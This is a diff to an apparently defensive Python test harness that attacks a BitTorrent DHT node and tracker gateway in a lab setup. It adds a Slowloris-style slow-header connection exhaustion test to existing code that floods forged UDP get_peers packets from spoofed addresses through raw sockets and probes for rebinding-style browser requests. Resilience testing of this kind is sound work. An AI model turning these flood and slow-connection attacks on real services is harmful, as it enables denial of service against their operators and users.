@@ -5,6 +5,7 @@ from __future__ import annotations
 import contextlib
 import os
 import random
+import resource
 import socket
 import struct
 import threading
@@ -15,11 +16,11 @@ from ground import ATTACKER, DHT_PORT, GATEWAY_PORT, NODE
 _ID = b"abcdefghij0123456789"
 
 
-def _ping(transaction: bytes) -> bytes:
+def ping(transaction: bytes) -> bytes:
     return b"d1:ad2:id20:" + _ID + b"e1:q4:ping1:t%d:%s1:y1:qe" % (len(transaction), transaction)
 
 
-def _get_peers(infohash: bytes) -> bytes:
+def get_peers(infohash: bytes) -> bytes:
     return b"d1:ad2:id20:" + _ID + b"9:info_hash20:" + infohash + b"e1:q9:get_peers1:t2:aa1:y1:qe"
 
 
@@ -29,7 +30,7 @@ def _checksum(header: bytes) -> int:
     return ~(total + (total >> 16)) & 0xFFFF
 
 
-def _datagram(source: bytes, payload: bytes) -> bytes:
+def datagram(source: bytes, payload: bytes) -> bytes:
     """An IPv4 packet with a UDP datagram for the node, from any source; without a checksum of UDP (RFC 768 allows it)."""
     udp = struct.pack("!HHHH", random.randrange(1024, 65536), DHT_PORT, 8 + len(payload), 0) + payload
     head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, socket.inet_aton(NODE))
@@ -40,10 +41,10 @@ def flood(seconds: float, rate: float, networks: int) -> dict[str, float]:
     """Forged queries for one infohash from random addresses of so many /24s, at most `rate` a second; and an honest node that
     pings once every tenth of a second."""
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    query = _get_peers(b"h" * 20)
+    query = get_peers(b"h" * 20)
     byte = random.randrange
     prefixes = [bytes([random.choice([23, 45, 80, 91, 145]), byte(256), byte(256)]) for _ in range(networks)]
-    packets = [_datagram(random.choice(prefixes) + bytes([byte(1, 255)]), query) for _ in range(4096)]
+    packets = [datagram(random.choice(prefixes) + bytes([byte(1, 255)]), query) for _ in range(4096)]
     stop, honest = threading.Event(), [0, 0]
     pinger = threading.Thread(target=_ping_honestly, args=(stop, honest))
     pinger.start()
@@ -71,7 +72,7 @@ def _ping_honestly(stop: threading.Event, counts: list[int]) -> None:
             client.settimeout(1)
             counts[0] += 1
             for _ in range(2):
-                client.sendto(_ping(struct.pack("!H", number & 0x7FFF)), (NODE, DHT_PORT))
+                client.sendto(ping(struct.pack("!H", number & 0x7FFF)), (NODE, DHT_PORT))
                 with contextlib.suppress(TimeoutError):
                     client.recv(2048)
                     counts[1] += 1
@@ -79,7 +80,7 @@ def _ping_honestly(stop: threading.Event, counts: list[int]) -> None:
         stop.wait(0.1)
 
 
-def _announce(infohash: bytes, port: int) -> bytes:
+def announce(infohash: bytes, port: int) -> bytes:
     escaped = "".join(f"%{byte:02x}" for byte in infohash)
     target = f"/announce?info_hash={escaped}&peer_id=-XX0000-abcdefghijkl&port={port}&left=5&compact=1"
     return f"GET {target} HTTP/1.1\r\nHost: {NODE}:{GATEWAY_PORT}\r\n\r\n".encode()
@@ -139,7 +140,7 @@ def own_client(patience: float) -> dict[str, float]:
     answer."""
     start = time.monotonic()
     with socket.create_connection((NODE, GATEWAY_PORT), timeout=patience) as client:
-        client.sendall(_announce(os.urandom(20), 6881))
+        client.sendall(announce(os.urandom(20), 6881))
         answer = client.recv(4096)
     return {"seconds": time.monotonic() - start, "answered": float(b"8:interval" in answer)}
 
@@ -163,6 +164,28 @@ def connections(count: int, seconds: float) -> dict[str, float]:
     return {"another is served": float(served), "after seconds": time.monotonic() - start}
 
 
+def slow_heads(count: int, seconds: float) -> dict[str, float]:
+    """So many connections, of as many addresses, each with a head as long as it may be that does not end; is another client served?"""
+    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 256, count + 256))
+    head = b"GET /announce?" + b"x" * 7_900
+    kept = []
+    for number in range(count):
+        client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        client.settimeout(2)
+        with contextlib.suppress(OSError):
+            client.bind((f"198.19.{number % 200}.{1 + number // 200}", 0))
+            client.connect((NODE, GATEWAY_PORT))
+            client.sendall(head)
+        kept.append(client)
+    time.sleep(seconds)
+    with socket.create_connection((NODE, GATEWAY_PORT), timeout=10, source_address=("198.19.230.1", 0)) as other:
+        other.sendall(f"GET / HTTP/1.0\r\nHost: {NODE}:{GATEWAY_PORT}\r\n\r\n".encode())
+        served = b"200 OK" in other.recv(4096)
+    for client in kept:
+        client.close()
+    return {"another is served": float(served)}
+
+
 def page(port: int) -> dict[str, float]:
     """What a web page can send from a browser on the node's host, with the port of another program; how often that one was
     connected to, and how many requests were answered otherwise than by 403."""
@@ -179,7 +202,7 @@ def page(port: int) -> dict[str, float]:
         ours + "Accept: text/html,application/xhtml+xml\r\n",
         "Host: rebound.example\r\n",
     ]:
-        request = _announce(command, port).replace(ours.encode(), sign.encode())
+        request = announce(command, port).replace(ours.encode(), sign.encode())
         with socket.create_connection((NODE, GATEWAY_PORT), timeout=10) as browser:
             browser.sendall(request)
             served += b" 403 " not in browser.recv(4096).split(b"\r\n")[0]
